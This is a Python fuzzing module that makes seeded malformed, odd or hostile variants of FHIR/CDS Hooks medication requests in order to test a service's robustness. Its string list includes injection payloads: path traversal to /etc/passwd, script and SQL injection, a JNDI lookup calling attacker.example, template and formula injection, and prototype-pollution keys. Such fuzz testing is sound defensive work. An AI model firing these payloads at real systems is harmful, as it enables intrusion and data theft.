"""Turns a good request into a bad, odd or hostile one; the same seed always makes the same request."""

import copy
import json
import random

NUMBERS = [
    0,
    -1,
    1,
    2,
    0.5,
    -0.0,
    1e-12,
    1e12,
    9.999e11,
    2**31,
    2**53,
    2**53 + 1,
    10**19,
    999999,
    1.0000000001,
]
TEXTS = [
    "", " ", "\u200b", "null", "0", "150", "NaN", "true", "-", "..", "../../etc/passwd", "%00", "%2e%2e%2f", "\u202e5 gm",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "[x](javascript:alert(1))", "](https://attacker.example)",
    "'; DROP TABLE alert; --", "${jndi:ldap://attacker.example/a}", "{{7*7}}", "{alias.field}", "%s%n%x", "=1+1", "@SUM(A1)",
    "\ud83d\ude00", "\u00e9" * 200, "a" * 1999, "b" * 2001, "c" * 20_000, "1 mg", "mcg", "ug", "\u00b5g", "[iU]", "UNT",
    "twice daily", "every other week", "as needed", "2026-11-22", "2026-11-31", "2026", "2026-11", "0000-00-00",
    "9999-12-31", "2026-11-22T25:00:00Z", "2026-11-22T12:00:00+14:00", "1795-01-01", "active", "draft", "entered-in-error",
    "MedicationStatement", "MedicationRequest", "Observation", "Patient", "Bundle", "Binary", "OperationOutcome",
    "Patient/ex-01", "Patient/other", "#contained", "urn:uuid:7c1e0c5e-0000-4000-8000-000000000001", "Vitamin K2 (MK-7)",
    "warfarin", "11289", "Marevan 3mg", "http://loinc.org", "6301-6", "http://www.nlm.nih.gov/research/umls/rxnorm",
]  # fmt: skip
NAMES = [
    "resourceType", "id", "status", "subject", "patient", "code", "coding", "system", "display", "text", "value",
    "valueQuantity", "unit", "dosage", "dosageInstruction", "doseAndRate", "doseQuantity", "timing", "repeat", "frequency",
    "period", "periodUnit", "effectivePeriod", "effectiveDateTime", "start", "end", "entry", "resource", "fullUrl", "link",
    "contained", "extension", "modifierExtension", "medication", "medicationReference", "medicationCodeableConcept",
    "hook", "hookInstance", "context", "prefetch", "patientId", "userId", "draftOrders", "selections", "fhirServer",
    "fhirAuthorization", "__proto__", "constructor", "$id", "$s", "c", "m", "sid", "_m_1",
]  # fmt: skip


class Mutator:
    """All choices of one request, drawn from one seed."""

    def __init__(self, seed):
        self.chance = random.Random(seed)

    def structure(self, body):
        """A copy of the body with one to eight elements changed; still JSON."""
        changed = copy.deepcopy(body)
        for _ in range(self.chance.choice((1, 1, 1, 2, 2, 3, 5, 8))):
            self._change(changed)
        return changed

    def octets(self, raw):
        """The text with one to four stretches of bytes flipped, cut, doubled or put in."""
        data = bytearray(raw)
        for _ in range(self.chance.randint(1, 4)):
            at = self.chance.randrange(len(data)) if data else 0
            length = self.chance.choice((1, 1, 1, 2, 4, 16, 256))
            way = self.chance.randrange(5)
            if way == 0 and data:
                data[at] ^= 1 << self.chance.randrange(8)
            elif way == 1:
                del data[at : at + length]
            elif way == 2:
                data[at:at] = data[at : at + length]
            elif way == 3:
                data[at:at] = self.chance.choice(INSERTS)
            else:
                del data[self.chance.randrange(len(data) + 1) :]
        return bytes(data)

    def _change(self, value):
        owner, key = self._place(self._inside(value))
        if owner is None:
            return
        way = self.chance.randrange(10)
        old = owner[key]
        if way == 0:
            del owner[key]
        elif way == 1 and isinstance(owner, list):
            owner.insert(key, copy.deepcopy(old))
        elif way == 2 and isinstance(owner, dict):
            owner[self.chance.choice(NAMES)] = owner.pop(key)
        elif way == 3:
            owner[key] = [old]
        elif way == 4:
            owner[key] = {self.chance.choice(NAMES): old}
        elif way == 5:
            other, name = self._place(value)
            owner[key] = copy.deepcopy(other[name]) if other is not None else None
        else:
            owner[key] = self._scalar(old)

    def _scalar(self, old):
        way = self.chance.randrange(8)
        if way == 0:
            return self.chance.choice((None, True, False, [], {}, [[]], [None], {"": ""}))
        if way == 1 or (way < 5 and isinstance(old, int | float)):
            return self.chance.choice(NUMBERS)
        if way == 2:
            deep = "x"
            for _ in range(self.chance.choice((3, 20, 45))):
                deep = [deep] if self.chance.random() < 0.5 else {"extension": deep}
            return deep
        if way == 3 and isinstance(old, str) and old:
            cut = self.chance.randrange(len(old))
            return old[:cut] + self.chance.choice(TEXTS) + old[cut:]
        return self.chance.choice(TEXTS)

    def _inside(self, body):
        """Mostly what the request carries, seldom the request itself: else nearly all would be refused at once."""
        carried = [body.get(name) for name in ("prefetch", "prefetch", "prefetch", "context")]
        found = self.chance.choice(carried)
        return found if isinstance(found, dict) and self.chance.random() < 0.93 else body

    def _place(self, value):
        """A container and a key in it, reached by a walk that stops anywhere."""
        owner = key = None
        while isinstance(value, dict | list) and value:
            if owner is not None and self.chance.random() < 0.12:
                break
            owner = value
            key = (
                self.chance.choice(list(value))
                if isinstance(value, dict)
                else self.chance.randrange(len(value))
            )
            value = value[key]
        return owner, key


INSERTS = [
    b"\x00", b"\xff\xfe", b"\xed\xa0\x80", b"NaN", b"1e999", b"-Infinity", b'"', b"\\", b"{", b"}", b"[" * 500, b"]", b",",
    b'"a":1,"a":2,', b"9" * 5000, b"\\u0000", b"\\ud800", b"0" * 40, b"e13", b"\r\n\r\n", b"/*", b"'",
]  # fmt: skip


def text_of(body):
    """The body as bytes, whatever strange characters it holds."""
    return json.dumps(body).encode()
